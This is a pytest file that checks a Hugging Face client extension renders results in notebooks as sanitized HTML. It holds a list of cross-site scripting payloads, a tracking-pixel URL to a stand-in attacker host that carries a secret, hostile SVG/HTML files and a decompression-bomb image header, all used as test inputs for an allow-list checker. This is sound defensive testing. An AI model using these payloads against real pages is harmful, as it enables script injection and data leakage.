"""The bundle of each type for notebooks: its types and sizes, hostile texts, limits, and what happens without the extra."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from base64 import b64decode
from html.parser import HTMLParser
from io import BytesIO
from typing import Any

import msgspec
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from support.shown_results import RESULTS, TOKEN, completion, detected, embeddings, picture, recording, segments

from hf_ext import ChatCompletion, Embeddings, Media, ResultList, ValidationError, display
from hf_ext._core.results.result_struct import ResultStruct
from hf_ext.display.views import _VIEWS, blocks_of
from hf_ext.text import Classification, TokenEntity
from hf_ext.vision import ImageSegment
from scripts.public_api import public_modules

ATTACKS = (
    "<img src=x onerror=\"document.title='attacked'\">",
    "<script>document.title='attacked'</script>",
    "[click](javascript:document.title='attacked')",
    "![pixel](https://attacker.example/pixel.png?q=secret)",
    "<iframe src=https://attacker.example></iframe><style>*{display:none}</style>",
    '"><svg onload="document.title=\'attacked\'">',
    "<https://attacker.example> [x]: javascript:alert(1)",
    "```x\" onmouseover=\"document.title='attacked'\n</code></pre><script>document.title='attacked'</script>\n```",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](JaVaScRiPt:x) [d](&#106;avascript:x)",
    "| a | b |\n|:-|-:|\n| <b onclick=x> | [l](javascript:x) |",
    "{{constructor.constructor('x')()}} $$\\href{javascript:x}{y}$$",
)
PICTURES = {"image", "depth"}
TAGS = {
    *("div", "p", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "ul", "ol", "li", "blockquote", "hr", "br"),
    *("code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td", "span", "img", "audio", "video"),
    *("details", "summary"),
}
STYLE = re.compile(
    r"(?:[a-z-]+:[a-z0-9 .%-]+;?|background:rgb\([0-9,]+\)|background:currentColor;?|border:1px solid currentColor;?)+"
)


RESULT_TYPES = sorted(
    {
        value
        for module in public_modules()
        for name in module.__all__
        if isinstance(value := getattr(module, name), type) and issubclass(value, ResultStruct)
    },
    key=lambda type_: type_.__name__,
)


class Checker(HTMLParser):
    """Collects what must not be in the HTML of a display."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if not self.is_allowed(tag, name, value or ""):
                self.problems.append(f"{tag} {name}={value!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_data(self, data: str) -> None:
        self.text += data

    @staticmethod
    def is_allowed(tag: str, name: str, value: str) -> bool:
        match tag, name:
            case _, "style":
                return STYLE.fullmatch(value) is not None
            case "a", "href":
                return re.match(r"(?:https?:|mailto:|[^:]*$|[^:/?#]*[/?#])", value) is not None or _is_harmless(value)
            case ("a", "rel") | ("img", "alt") | ("audio" | "video", "controls"):
                return True
            case (("img" | "audio" | "video"), "src"):
                return (
                    re.fullmatch(r"data:(?:image|audio|video)/[a-z0-9.+-]+;base64,[A-Za-z0-9+/=]*", value) is not None
                )
            case "div", "class":
                return value == "tex2jax_ignore mathjax_ignore"
            case ("img", "width") | ("ol", "start"):
                return value.isdecimal()
        return False


def _is_harmless(address: str) -> bool:
    scheme = address.partition(":")[0].lower()
    return scheme not in {"javascript", "vbscript", "data", "file"}


def html_of(shown: Any) -> str:
    data, metadata = shown._repr_mimebundle_()
    assert set(data) <= {"text/plain", "text/html"}, "only pictures have another type"
    assert metadata == {}
    return data["text/html"]


def check(html: str) -> str:
    """Return the text of HTML that holds nothing dangerous."""
    checker = Checker()
    checker.feed(html)
    checker.close()
    assert checker.problems == []
    return checker.text


@pytest.mark.parametrize("name", RESULTS)
def test_bundle_has_text_and_one_richer_type(name: str) -> None:
    shown = RESULTS[name]("cat")
    data, metadata = shown._repr_mimebundle_()
    assert data["text/plain"] == repr(shown)
    assert "\n" not in data["text/plain"]
    assert set(data) == {"text/plain", "image/png" if name in PICTURES else "text/html"}
    assert metadata == ({"image/png": {"width": 96}} if name in PICTURES else {})
    json.dumps(data)  # a notebook is JSON


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", [name for name in RESULTS if name not in PICTURES])
def test_hostile_text_becomes_harmless_html(name: str, attack: str) -> None:
    check(html_of(RESULTS[name](attack)))


@pytest.mark.parametrize("name", [name for name in RESULTS if name not in {*PICTURES, "masks", "sound", "track"}])
@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=st.text()
    | st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "`", "&", "\n", "[", "](", ")", " "])).map("".join)
)
def test_any_text_becomes_harmless_html(name: str, text: str) -> None:
    check(html_of(RESULTS[name](text)))


@pytest.mark.parametrize("attack", ATTACKS[:5])
def test_text_of_a_model_is_not_lost(attack: str) -> None:
    assert attack.partition("](")[0].lstrip("![")[:12] in check(html_of(completion(attack)))


def test_markdown_is_rendered() -> None:
    html = html_of(completion("# Title\n\n**bold** `code`\n\n| a |\n|---|\n| 1 |\n\n```python\nx = '<b>'\n```"))
    for part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<td>1</td>",
        "x = '&lt;b&gt;'\n</code>".replace("'", "&#x27;"),
    ):
        assert part in html
    assert html.count("class=") == 1


def test_formulas_are_not_typeset() -> None:
    """MathJax turns a formula with a link to `javascript:` into such a link, but leaves out elements of these classes."""
    html = html_of(completion(r"$$\href{javascript:x}{y}$$"))
    assert html.startswith('<div class="tex2jax_ignore mathjax_ignore"')


def test_links_have_no_opener_and_pictures_become_links() -> None:
    html = html_of(completion("[a](https://a.example) ![b](https://b.example/c.png)"))
    assert html.count('rel="noopener noreferrer"') == 2
    assert "<img" not in html


@pytest.mark.parametrize("name", RESULTS)
def test_no_display_shows_headers_of_the_response(name: str) -> None:
    shown = RESULTS[name]("cat")
    assert TOKEN not in json.dumps(shown._repr_mimebundle_())
    assert TOKEN not in repr(shown)


def test_completion_shows_usage_and_folds_reasoning_and_tool_calls() -> None:
    html = html_of(completion("Paris"))
    assert "31→20 tokens · stop · Paris · 1.2 s" in html
    assert html.count("<details") == 2
    assert "Paris(Paris)" in html


def test_bars_are_as_long_as_their_scores() -> None:
    html = html_of(ResultList([Classification(label="a", score=each) for each in (1.0, 0.5, 0.004, float("nan"))]))
    assert re.findall(r"width:(\d+)px", html) == ["100", "50", "0"]
    assert re.findall(r"width:(\d+)px", html_of(ResultList([4.0, -2.0, float("inf")]))) == ["100", "50"]


def test_segments_are_a_picture_with_the_share_of_each() -> None:
    html = html_of(segments("cat"))
    shown = Image.open(BytesIO(b64decode(re.findall(r'src="data:image/png;base64,([^"]+)"', html)[0])))
    assert shown.size == (96, 64)
    assert len(shown.getcolors() or ()) == 3
    assert "24.0%" in html


def test_segments_without_a_readable_mask_are_a_table() -> None:
    assert "no image" in html_of(ResultList([ImageSegment(label="cat", mask=b"other bytes")]))


@pytest.mark.parametrize(("kind", "type_"), [("PNG", "image/png"), ("JPEG", "image/jpeg"), ("GIF", "image/gif")])
def test_pictures_that_browsers_show_are_not_changed(kind: str, type_: str) -> None:
    file = BytesIO()
    Image.new("RGB", (2000, 10)).save(file, kind)
    data, metadata = Media(file.getvalue(), "application/octet-stream")._repr_mimebundle_()
    assert b64decode(data[type_]) == file.getvalue()
    assert metadata == {type_: {"width": 512}}


def test_other_pictures_become_small_png() -> None:
    file = BytesIO()
    Image.new("RGB", (3000, 300)).save(file, "TIFF")
    data, metadata = Media(file.getvalue(), "image/tiff")._repr_mimebundle_()
    assert Image.open(BytesIO(b64decode(data["image/png"]))).size == (1024, 102)
    assert metadata == {"image/png": {"width": 512}}


def test_large_files_are_described_instead_of_shown() -> None:
    with display.options(file_bytes=1000):
        assert "too large to show" in html_of(Media(recording(), "audio/wav"))
        assert "image/png" in Media(picture(900, 900), "image/png")._repr_mimebundle_()[0]  # a thumbnail
    with display.options(pixels=100):
        assert "more than 100 pixels" in html_of(Media(picture(), "image/png"))


def test_picture_with_a_huge_size_in_its_header_is_not_decoded() -> None:
    bomb = picture()[:16] + (60_000).to_bytes(4, "big") * 2 + picture()[24:]
    for content_type in ("image/png", "image/webp"):
        assert "more than 50,000,000 pixels" in html_of(Media(bomb, content_type))


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "image/svg+xml"),
        (b"<html><script>x()</script>", "image/png"),
        (b"<html><script>x()</script>", 'text/html" onload="x()'),
        (b"no video", "video/mp4"),
        (b"glTF", "model/gltf-binary"),
    ],
)
def test_files_that_are_no_pictures_are_described(content: bytes, content_type: str) -> None:
    text = check(html_of(Media(content, content_type)))
    assert "write the file with .save(path)" in text


def test_players_hold_the_file() -> None:
    html = html_of(Media(recording(), "application/octet-stream"))
    assert b64decode(re.findall(r'<audio controls src="data:audio/wav;base64,([^"]+)"', html)[0]) == recording()


def test_tables_texts_and_cells_end_at_their_limits() -> None:
    html = html_of(embeddings())
    assert html.count("<tr>") == 21
    assert "… 5 more" in html
    with display.options(rows=2, text_characters=10, cell_characters=5):
        assert html_of(embeddings()).count("<tr>") == 3
        assert "… 90 more characters, see .text" in html_of(completion("x" * 100))
        assert "<td" in html_of(detected("y" * 100))
        assert "yyyyyy" not in html_of(detected("y" * 100))
    assert "… 1,000 more characters" in html_of(completion("x" * 21_000))


def test_marked_text_ends_at_the_limit_of_characters_and_its_repr_is_short() -> None:
    spans = [TokenEntity(entity_group="PER", score=0.9, start=place, end=place + 5) for place in range(0, 100_000, 10)]
    marked = display.mark("x" * 100_000, spans)
    with display.options(text_characters=20):
        html = html_of(marked)
    assert html.count("PER") == 2
    assert "… 99,980 more characters, see .text" in html
    assert len(repr(marked)) < 500
    assert repr(marked).endswith("… 9,990 more)")


def test_files_end_at_the_limit_of_rows() -> None:
    file = Media(recording(), "audio/wav")
    with display.options(rows=2):
        html = html_of(Media(recording(), "audio/wav", others=(file, file, file)))
    assert (html.count("<audio"), "… 2 more" in html) == (2, True)


def test_columns_end_at_their_limit() -> None:
    with display.options(columns=1):
        assert "more columns: " in html_of(ResultList([completion("x")][0].choices))


@pytest.mark.parametrize(
    ("limits", "message"),
    [({"row": 3}, r"row is not a limit: rows, columns"), ({"rows": 0}, r"rows must be a whole number of at least 1")],
)
def test_invalid_limits_are_refused(limits: dict[str, int], message: str) -> None:
    with pytest.raises(ValidationError, match=message), display.options(**limits):
        pass


def test_limits_end_with_their_block() -> None:
    with pytest.raises(KeyError), display.options(rows=1):
        raise KeyError
    assert display.Limits.current() == display.Limits()


def test_included_and_excluded_types_are_respected() -> None:
    shown = completion("x")
    assert set(shown._repr_mimebundle_(include=["text/plain"])[0]) == {"text/plain"}
    assert set(shown._repr_mimebundle_(exclude=["text/html"])[0]) == {"text/plain"}
    assert set(shown._repr_mimebundle_(include=["text/html"])[0]) == {"text/plain", "text/html"}


def test_repr_is_shown_if_the_result_cannot_be() -> None:
    broken = ChatCompletion()
    broken.choices = [None]  # type: ignore[list-item]
    assert broken._repr_mimebundle_()[0] == {"text/plain": "<ChatCompletion>"}
    assert set(Embeddings(None)._repr_mimebundle_()[0]) == {"text/plain"}


def test_token_vectors_are_listed() -> None:
    shown = Embeddings(None, tokens=[np.ones((3, 8), np.float32)])
    assert ">3<" in html_of(shown)


def test_every_view_exists() -> None:
    import hf_ext
    from hf_ext import audio, endpoints, models, multimodal, responses, similarity, text, usage, vision
    from hf_ext.chat import results
    from hf_ext.display import marked_text
    from hf_ext.resilience import MetricsSnapshot

    modules = (
        hf_ext,
        audio,
        endpoints,
        models,
        multimodal,
        responses,
        similarity,
        text,
        usage,
        vision,
        results,
        marked_text,
    )
    known = {"float", "list", MetricsSnapshot.__name__}
    for name in _VIEWS:
        bare = name.removesuffix("[]")
        assert bare in known or any(hasattr(module, bare) for module in modules), name


@pytest.mark.parametrize("type_", RESULT_TYPES, ids=lambda type_: type_.__name__)
def test_every_type_of_result_is_shown_alone_and_in_a_list(type_: type[ResultStruct]) -> None:
    required = [field for field in msgspec.structs.fields(type_) if field.required]
    values = {field.name: {str: "x", float: 0.5, int: 1, list[int]: [1]}[field.type] for field in required}
    for shown in (type_(**values), ResultList([type_(**values)])):
        check(html_of(shown))


def test_every_sample_has_its_own_view() -> None:
    used = {name for name in RESULTS if blocks_of(RESULTS[name]("cat"))}
    assert used == set(RESULTS)


@pytest.mark.parametrize("missing", ["markdown_it", "PIL"])
def test_without_the_extra_the_repr_is_shown(missing: str) -> None:
    program = (
        f"import sys; sys.modules[{missing!r}] = None\n"
        "import msgspec, hf_ext\n"
        "from hf_ext.vision import ImageSegment\n"
        'completion = msgspec.json.decode(b\'{"choices": [{"message": {"content": "x"}}]}\', type=hf_ext.ChatCompletion)\n'
        "segments = hf_ext.ResultList([ImageSegment(mask=b'x')])\n"
        "print(*sorted({'markdown_it': completion, 'PIL': segments}[" + repr(missing) + "]._repr_mimebundle_()[0]))"
    )
    run = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert run.stdout == "text/plain\n"


def test_results_import_no_library_of_the_extra_until_they_are_shown() -> None:
    program = (
        "import sys, hf_ext, hf_ext.vision, hf_ext.display\n"
        "hf_ext.Client; repr(hf_ext.ChatCompletion()); repr(hf_ext.ResultList()); hf_ext.Embeddings\n"
        "print([name for name in ('rich', 'markdown_it', 'PIL', 'matplotlib', 'IPython', 'pyarrow', 'hf_ext.display.html')"
        " if name in sys.modules])"
    )
    run = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert run.stdout == "[]\n"
